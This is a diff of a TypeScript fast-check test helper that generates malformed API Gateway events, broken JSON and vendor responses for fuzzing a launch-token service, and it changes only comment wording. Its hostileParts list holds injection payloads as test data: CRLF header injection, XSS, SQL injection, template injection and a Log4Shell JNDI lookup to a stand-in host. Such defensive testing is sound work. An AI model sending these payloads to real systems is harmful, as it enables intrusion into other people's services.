@@ -3,7 +3,7 @@ import fc, { type Arbitrary } from 'fast-check';
 /** Part of every string that a caller of these tests controls: it may reach no log line and no other caller. */
 export const planted = 'PLANTED';
 
-/** What breaks parsers, headers, pages, paths and shells. */
+/** Strings that break parsers, headers, pages, paths and shells. */
 const hostileParts = [
   '\r\nSet-Cookie: a=b',
   '\n',
@@ -22,7 +22,7 @@ const hostileParts = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   "' OR 1=1 --",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: templates of others are what is tried here.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: these are templates of other systems.
   '${jndi:ldap://evil.example}',
   '{{7*7}}',
   '$context.authorizer',
@@ -49,7 +49,7 @@ export const validUid: Arbitrary<string> = fc
   .stringMatching(/^[A-Za-z0-9-]{1,52}$/)
   .map((end) => `${planted}-${end}`);
 
-/** A uid that is valid but for one place, or for its length. */
+/** A uid that is invalid only in one place, or in its length. */
 export const almostUid: Arbitrary<string> = fc.oneof(
   fc
     .tuple(
@@ -95,7 +95,7 @@ export const bodyText: Arbitrary<string> = fc.oneof(
   plantedText,
 );
 
-/** JSON that somebody has cut, changed in one place, or put something before or after. */
+/** JSON that was cut, changed in one place, or extended before or after. */
 export const brokenJson: Arbitrary<string> = fc
   .tuple(
     bodyText,
@@ -155,7 +155,7 @@ const headerValue = fc.oneof(
   anyJson,
 );
 
-/** Headers as an event has them: mostly those of a caller who does it right. */
+/** Headers of an event: mostly those of a correct caller. */
 const headers = fc.oneof(
   {
     weight: 6,
@@ -193,8 +193,8 @@ const requestContext = fc.oneof(
 );
 
 /**
- * Any event that a function could be invoked with: that of API Gateway, of which each part may be missing or be
- * anything. `tokens` are launch tokens, to be sent as they are or changed in one place.
+ * Any event that a function could be invoked with: that of API Gateway, each part of which may be missing or have any
+ * value. `tokens` are launch tokens, to be sent as they are or changed in one place.
  */
 export function anyEvent(tokens: readonly string[]): Arbitrary<unknown> {
   const token = fc.oneof(
@@ -214,7 +214,7 @@ export function anyEvent(tokens: readonly string[]): Arbitrary<unknown> {
   const part = (arbitrary: Arbitrary<unknown>) => fc.oneof({ weight: 9, arbitrary }, anyJson);
   const whole = fc.record(
     {
-      // API Gateway's own, of the route that it found: no caller writes them.
+      // Set by API Gateway for the route that it found: no caller writes them.
       httpMethod: fc.oneof({ weight: 9, arbitrary: fc.constantFrom('GET', 'HEAD', 'POST') }, hostileText),
       resource: fc.oneof(fc.constantFrom('/sessions', '/launch-links', '/launch/{token}'), hostileText),
       path: part(plantedText),
@@ -243,7 +243,7 @@ export function anyEvent(tokens: readonly string[]): Arbitrary<unknown> {
 
 const base64url = (value: unknown) => Buffer.from(JSON.stringify(value) ?? '').toString('base64url');
 
-/** What a vendor could answer a session call for `uid` with, as JSON. */
+/** Possible answers of a vendor to a session call for `uid`, as JSON. */
 export function anyVendorBody(uid: string): Arbitrary<unknown> {
   const mostly = (value: unknown) => fc.oneof({ weight: 4, arbitrary: fc.constant(value) }, anyJson);
   const claims = fc.record(
